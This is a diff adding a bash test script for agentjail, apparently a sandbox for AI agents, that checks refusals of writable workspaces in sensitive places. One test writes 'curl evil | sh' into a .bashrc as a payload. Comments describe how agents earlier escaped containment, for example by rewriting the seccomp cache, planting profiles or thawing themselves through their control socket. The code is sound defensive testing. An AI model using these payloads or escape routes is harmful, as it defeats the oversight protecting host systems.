@@ -1,0 +1,144 @@
+#!/bin/bash
+# SPDX-License-Identifier: Apache-2.0
+# Where a jail may write: a workspace or a read-write bind that is, or contains, a
+# sensitive place (/tmp, a home directory, /srv...) is refused unless the profile's
+# filesystem.allow_sensitive names it; one that touches agentjail's own state, runtime
+# or profile dirs is always refused. Rootless, the /tmp fallback runtime dir must be the
+# invoker's alone. Each run here did harm before the rule existed.
+
+. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
+
+require_root
+setup_dirs
+require_jails
+
+# refused DESC PATTERN: the last run was refused before the command ran.
+refused() {
+        is "$JAIL_RC" 125 "$1: the run is refused (125)" || diag "$JAIL_ERR"
+        like "$JAIL_ERR" "$2" "$1: the message names the path and the rule"
+}
+
+# --- run from /tmp: the agent reached the host's /tmp and its Unix sockets
+MARK="agentjail-test-mark.$$"
+cd /tmp || exit 1
+run_jail -- /bin/sh -c "echo x > $MARK"
+cd "$WORKSPACE" || exit 1
+refused "workspace /tmp" "refusing '/tmp': it (is|contains) .*rule: "
+ok "workspace /tmp: nothing was written to the host's /tmp" test ! -e "/tmp/$MARK"
+rm -f "/tmp/$MARK"
+
+# --- through a symlink to /tmp, named in a profile: the real path is what counts
+ln -s /tmp "$TEST_TMP/tmplink"
+cat >"$TEST_TMP/profiles/via-link.json" <<JSON
+{"extends": "default", "filesystem": {"workspace": {"path": "$TEST_TMP/tmplink"}}}
+JSON
+run_jail -p "$TEST_TMP/profiles/via-link.json" -- /bin/true
+refused "a workspace that is a symlink to /tmp" "refusing '/tmp'"
+
+# --- run from a home directory (a temporary HOME stands in for /root): it wrote .bashrc
+FAKE_HOME="$TEST_TMP/home"
+mkdir -p "$FAKE_HOME"
+cd "$FAKE_HOME" || exit 1
+HOME=$FAKE_HOME run_jail -- /bin/sh -c 'echo "curl evil | sh" >> .bashrc'
+cd "$WORKSPACE" || exit 1
+refused "workspace = \$HOME" "refusing '$FAKE_HOME': "
+ok "workspace = \$HOME: no .bashrc was written" test ! -e "$FAKE_HOME/.bashrc"
+mkdir -p "$FAKE_HOME/project"
+cd "$FAKE_HOME/project" || exit 1
+HOME=$FAKE_HOME run_jail -- /bin/sh -c 'echo ok > made'
+cd "$WORKSPACE" || exit 1
+is "$JAIL_RC" 0 "a project directory inside \$HOME is fine" || diag "$JAIL_ERR"
+HOME=$FAKE_HOME run_jail --rw "$FAKE_HOME" -- /bin/true
+refused "--rw \$HOME" "--rw: refusing '$FAKE_HOME'"
+
+# --- run from the state dir's parent: it rewrote the compiled seccomp cache
+cd "$TEST_TMP" || exit 1
+run_jail -- /bin/sh -c 'for f in state/cache/seccomp/*; do printf x > "$f"; done; : > state/planted'
+cd "$WORKSPACE" || exit 1
+refused "workspace containing the state dir" "refusing '$TEST_TMP': it contains '$AGENTJAIL_STATE_DIR'.*never"
+ok "the state dir was not written" test ! -e "$AGENTJAIL_STATE_DIR/planted"
+run_jail --rw "$AGENTJAIL_STATE_DIR/cache" -- /bin/true
+refused "--rw inside the state dir" "--rw: refusing '$AGENTJAIL_STATE_DIR/cache': it is inside"
+run_jail --rw "$AGENTJAIL_RUNTIME_DIR" -- /bin/true
+refused "--rw of the runtime dir" "--rw: refusing '$AGENTJAIL_RUNTIME_DIR': it is '"
+
+# --- $XDG_CONFIG_HOME inside the workspace: it planted profiles/default.json
+XDG_CONFIG_HOME="$WORKSPACE/.config" run_jail -- /bin/sh -c \
+        'mkdir -p .config/agentjail/profiles && echo "{\"filesystem\": {}}" > .config/agentjail/profiles/default.json'
+refused "a workspace containing \$XDG_CONFIG_HOME/agentjail" "refusing '$WORKSPACE': it contains '$WORKSPACE/.config/agentjail"
+ok "no profile was planted" test ! -e "$WORKSPACE/.config/agentjail/profiles/default.json"
+
+# --- the opt-out: a generic place named in filesystem.allow_sensitive, recorded
+if [[ -d /srv ]]; then
+        cat >"$TEST_TMP/profiles/srv.json" <<'JSON'
+{"extends": "default", "filesystem": {"workspace": {"path": "/srv", "mode": "ro"}, "allow_sensitive": ["/srv"]}}
+JSON
+        cat >"$TEST_TMP/profiles/srv-no.json" <<'JSON'
+{"extends": "default", "filesystem": {"workspace": {"path": "/srv", "mode": "ro"}}}
+JSON
+        run_jail -p "$TEST_TMP/profiles/srv-no.json" -- /bin/true
+        refused "workspace /srv" "refusing '/srv': it is '/srv'.*allow_sensitive"
+        run_jail -p "$TEST_TMP/profiles/srv.json" -- /bin/true
+        is "$JAIL_RC" 0 "workspace /srv with allow_sensitive [\"/srv\"] runs" || diag "$JAIL_ERR"
+        like "$JAIL_ERR" "sensitive is not enforced" "the operator is told"
+        is "$(jq -r 'select(.type == "degraded") | .what' "$JAIL_RUN_DIR/events.jsonl" 2>/dev/null)" sensitive \
+                "the run records a degraded event"
+        cat >"$TEST_TMP/profiles/state-allowed.json" <<JSON
+{"extends": "default", "filesystem": {"allow_sensitive": ["$TEST_TMP", "$AGENTJAIL_STATE_DIR", "/tmp"]}}
+JSON
+        cd "$TEST_TMP" || exit 1
+        run_jail -p "$TEST_TMP/profiles/state-allowed.json" -- /bin/true
+        cd "$WORKSPACE" || exit 1
+        refused "agentjail's own dirs cannot be opted out" "refusing '$TEST_TMP': it contains '$AGENTJAIL_STATE_DIR'"
+else
+        fail "/srv exists for the opt-out test" "no /srv on this host"
+fi
+
+# --- rootless, no XDG_RUNTIME_DIR: the runtime dir falls back to /tmp/agentjail-UID, which
+# any local user can create first. A uid of its own keeps this test from meeting others.
+if command -v setpriv >/dev/null && setpriv --reuid=65534 --regid=65534 --clear-groups unshare -U true 2>/dev/null; then
+        U=$((3000000 + RANDOM))
+        FB="/tmp/agentjail-$U"
+        RL="$TEST_TMP/rootless"
+        mkdir -p "$RL/ws" "$RL/state"
+        echo '{"extends": "default", "allow_degraded": ["limits"]}' >"$RL/p.json"
+        AJ_U=$(agentjail_for_others "$RL") || exit 1
+        chown -R "$U:$U" "$RL"
+        as_u() {
+                (cd "${U_CWD:-$RL/ws}" && timeout -k 5 60 setpriv --reuid="$U" --regid="$U" --clear-groups \
+                        env -i PATH=/usr/bin:/bin HOME="$RL" AGENTJAIL_STATE_DIR="$RL/state" \
+                        "$AJ_U" run -p "$RL/p.json" ${U_ARGS:-} -- /bin/sh -c 'echo ran') >"$TEST_TMP/u.out" 2>"$TEST_TMP/u.err"
+                U_RC=$?
+                U_ERR=$(cat "$TEST_TMP/u.err")
+        }
+        rm -rf --one-file-system "$FB"
+        install -d -m 0700 -o 65534 -g 65534 "$FB"
+        as_u
+        is "$U_RC" 125 "rootless: a /tmp/agentjail-UID made by another user is refused" || diag "$U_ERR"
+        like "$U_ERR" "refusing the runtime directory '$FB': it belongs to another user" "and the message says why"
+        rm -rf "$FB"
+        install -d -m 0777 -o "$U" -g "$U" "$FB"
+        as_u
+        is "$U_RC" 125 "rootless: a /tmp/agentjail-UID with mode 0777 is refused" || diag "$U_ERR"
+        like "$U_ERR" "its mode is not 0700" "and the message says why"
+        rm -rf "$FB"
+        ln -s "$RL" "$FB"
+        as_u
+        is "$U_RC" 125 "rootless: a symlink at /tmp/agentjail-UID is refused" || diag "$U_ERR"
+        rm -f "$FB"
+        as_u
+        is "$U_RC" 0 "rootless: without one, it is created and the run starts" || diag "$U_ERR"
+        is "$(stat -c '%u %a %F' "$FB" 2>/dev/null)" "$U 700 directory" "the fallback dir is the invoker's, mode 0700"
+        # From /tmp, the agent reached its own control socket there and thawed itself.
+        U_CWD=/tmp as_u
+        is "$U_RC" 125 "rootless from /tmp (which holds the runtime dir): refused" || diag "$U_ERR"
+        like "$U_ERR" "refusing '/tmp': it contains" "the message says why"
+        U_ARGS="--rw $FB" as_u
+        is "$U_RC" 125 "rootless: the fallback runtime dir as an rw bind: refused" || diag "$U_ERR"
+        like "$U_ERR" "refusing '$FB': it is '$FB', agentjail's runtime dir" "the message names the runtime dir"
+        rm -rf --one-file-system "$FB"
+else
+        fail "rootless runs can be started here" "setpriv or unprivileged user namespaces missing"
+fi
+
+done_testing
